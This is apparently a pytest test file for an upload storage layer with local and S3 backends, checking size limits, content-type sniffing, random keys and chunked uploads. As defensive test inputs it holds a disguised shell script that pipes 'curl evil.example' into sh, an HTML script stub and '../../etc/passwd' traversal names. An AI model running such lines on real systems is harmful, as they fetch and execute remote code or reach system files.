"""Both backends store allowed files whole, and refuse the rest leaving nothing behind."""

from __future__ import annotations

import hashlib
import io
import os

import pytest
from werkzeug.datastructures import FileStorage

from api.storage import (
    EmptyFile,
    FileMissing,
    FileTooLarge,
    ForbiddenFileType,
    LocalStorage,
    S3Storage,
    StorageError,
)

MB = 1024 * 1024


class GeneratedStream:
    """A lazily generated binary stream that remembers how it was read."""

    def __init__(self, size: int, first_bytes: bytes = b"%PDF-1.7\n") -> None:
        self.size = size
        self.position = 0
        self.first_bytes = first_bytes
        self.reads = 0
        self.largest_read = 0
        self.hash = hashlib.sha256()

    def read(self, size: int = -1) -> bytes:
        if size is None or size < 0:
            raise AssertionError("the whole stream was asked for at once")
        self.reads += 1
        self.largest_read = max(self.largest_read, size)
        size = min(size, self.size - self.position)
        data = bytearray(os.urandom(size)) if size else bytearray()
        head = self.first_bytes[self.position : self.position + size]
        data[: len(head)] = head
        self.position += size
        self.hash.update(data)
        return bytes(data)


def upload(data: bytes, filename: str = "upload.bin", content_type: str = "") -> FileStorage:
    """What Flask hands a view for a multipart upload; the name and type are the client's."""
    return FileStorage(io.BytesIO(data), filename=filename, content_type=content_type)


def read_back(storage, key: str) -> bytes:
    with storage.open(key) as file:
        return file.read()


def test_saved_file_reads_back_with_its_size_and_sha256(storage, stored_names):
    data = b"%PDF-1.4\n" + os.urandom(200_000)

    stored = storage.save(io.BytesIO(data), max_bytes=MB)

    assert stored.size == len(data)
    assert stored.sha256 == hashlib.sha256(data).hexdigest()
    assert stored.content_type == "application/pdf"
    assert storage.exists(stored.key)
    assert read_back(storage, stored.key) == data
    assert len(stored_names()) == 1


def test_each_allowed_kind_of_file_is_stored_with_its_sniffed_type(storage, allowed_sample):
    data, content_type = allowed_sample

    stored = storage.save(
        upload(data, "whatever.bin", "application/octet-stream").stream, max_bytes=MB
    )

    assert stored.content_type == content_type
    assert read_back(storage, stored.key) == data


def test_key_is_random_and_never_the_client_file_name(storage):
    first = storage.save(upload(b"notes", "../../etc/passwd").stream, max_bytes=MB)
    second = storage.save(upload(b"notes", "../../etc/passwd").stream, max_bytes=MB)

    assert first.key != second.key
    assert "passwd" not in first.key and "/" not in first.key
    assert len(first.key) == 32


def test_file_over_the_limit_is_refused_and_leaves_nothing_behind(storage, stored_names):
    with pytest.raises(FileTooLarge) as refused:
        storage.save(GeneratedStream(3 * MB), max_bytes=2 * MB)

    assert stored_names() == []
    assert refused.value.detail == "This file is bigger than the 2 MB limit. Try a smaller file."
    assert refused.value.status == 413


def test_file_exactly_at_the_limit_is_accepted(storage):
    stored = storage.save(GeneratedStream(MB), max_bytes=MB)

    assert stored.size == MB


def test_empty_file_is_refused_and_leaves_nothing_behind(storage, stored_names):
    with pytest.raises(EmptyFile) as refused:
        storage.save(upload(b"", "empty.pdf", "application/pdf").stream, max_bytes=MB)

    assert stored_names() == []
    assert isinstance(refused.value, StorageError)
    assert "empty" in refused.value.detail


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<!DOCTYPE html><html><script>steal()</script></html>", id="html"),
        pytest.param(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, id="elf executable"),
        pytest.param(b"#!/bin/bash\ncurl evil.example | sh\n", id="shell script"),
    ],
)
def test_executable_or_page_renamed_to_pdf_is_refused_and_leaves_nothing(
    storage, stored_names, data
):
    disguised = upload(data, filename="lesson-plan.pdf", content_type="application/pdf")

    with pytest.raises(ForbiddenFileType):
        storage.save(disguised.stream, max_bytes=MB)

    assert stored_names() == []


def test_text_that_turns_binary_after_the_first_chunk_is_refused_and_leaves_nothing(
    storage, stored_names
):
    data = b"plain words\n" * 20_000 + b"\x00\x01\x02binary tail"

    with pytest.raises(ForbiddenFileType):
        storage.save(io.BytesIO(data), max_bytes=MB)

    assert stored_names() == []


def test_deleted_file_is_gone_and_deleting_it_again_is_harmless(storage):
    stored = storage.save(upload(b"journal entry").stream, max_bytes=MB)

    storage.delete(stored.key)
    storage.delete(stored.key)

    assert not storage.exists(stored.key)
    with pytest.raises(FileMissing):
        storage.open(stored.key)


@pytest.mark.parametrize("key", ["../../etc/passwd", "", "ABCDEF" * 6, "a" * 31 + "/"])
def test_key_that_we_did_not_make_is_refused(storage, key):
    with pytest.raises(ValueError):
        storage.open(key)
    with pytest.raises(ValueError):
        storage.exists(key)


def test_large_local_upload_streams_in_chunks_without_reading_it_all(tmp_path):
    storage = LocalStorage(tmp_path)
    stream = GeneratedStream(20 * MB)

    stored = storage.save(stream, max_bytes=25 * MB)

    assert stored.size == 20 * MB
    assert stored.sha256 == stream.hash.hexdigest()
    assert stream.largest_read <= 64 * 1024
    assert stream.reads >= 20 * MB // (64 * 1024)
    assert storage.path(stored.key).stat().st_size == 20 * MB


def test_local_upload_appears_under_its_key_only_once_complete(tmp_path):
    storage = LocalStorage(tmp_path)
    seen_while_writing: list[list[str]] = []

    class WatchedStream(GeneratedStream):
        def read(self, size: int = -1) -> bytes:
            seen_while_writing.append(
                [
                    p.name
                    for p in tmp_path.rglob("*")
                    if p.is_file() and p.parent.name != ".incoming"
                ]
            )
            return super().read(size)

    stored = storage.save(WatchedStream(MB), max_bytes=MB)

    assert all(names == [] for names in seen_while_writing)
    assert storage.exists(stored.key)
    assert not list(storage.incoming.iterdir())


def test_large_s3_upload_goes_up_in_parts_and_is_read_back_whole(
    make_s3_storage, s3_client, bucket
):
    storage = make_s3_storage(part_size=5 * MB)
    stream = GeneratedStream(11 * MB)

    stored = storage.save(stream, max_bytes=12 * MB)

    head = s3_client.head_object(Bucket=bucket, Key=stored.key)
    assert head["ContentLength"] == 11 * MB
    assert head["ContentType"] == "application/pdf"
    assert head["ETag"].strip('"').endswith("-3")  # three parts: 5 + 5 + 1 MiB
    assert stream.largest_read <= 64 * 1024
    digest = hashlib.sha256()
    with storage.open(stored.key) as file:
        while chunk := file.read(MB):
            digest.update(chunk)
    assert digest.hexdigest() == stored.sha256 == stream.hash.hexdigest()


def test_s3_upload_over_the_limit_after_parts_went_up_is_aborted(
    make_s3_storage, s3_client, bucket
):
    storage = make_s3_storage(part_size=5 * MB)

    with pytest.raises(FileTooLarge):
        storage.save(GeneratedStream(12 * MB), max_bytes=11 * MB)

    assert s3_client.list_objects_v2(Bucket=bucket).get("Contents", []) == []
    assert s3_client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []


def test_s3_object_carries_the_sniffed_type_not_the_client_one(make_s3_storage, s3_client, bucket):
    storage = make_s3_storage(prefix="evidence/")

    stored = storage.save(
        upload(b"GIF89a" + b"\x00" * 40, "cat.pdf", "application/pdf").stream, max_bytes=MB
    )

    head = s3_client.head_object(Bucket=bucket, Key=f"evidence/{stored.key}")
    assert head["ContentType"] == "image/gif"


def test_unreachable_object_store_is_reported_as_unavailable():
    storage = S3Storage("evidence", endpoint_url="http://127.0.0.1:9", region="us-east-1")

    with pytest.raises(StorageError) as refused:
        storage.save(upload(b"notes").stream, max_bytes=MB)

    assert refused.value.status == 503
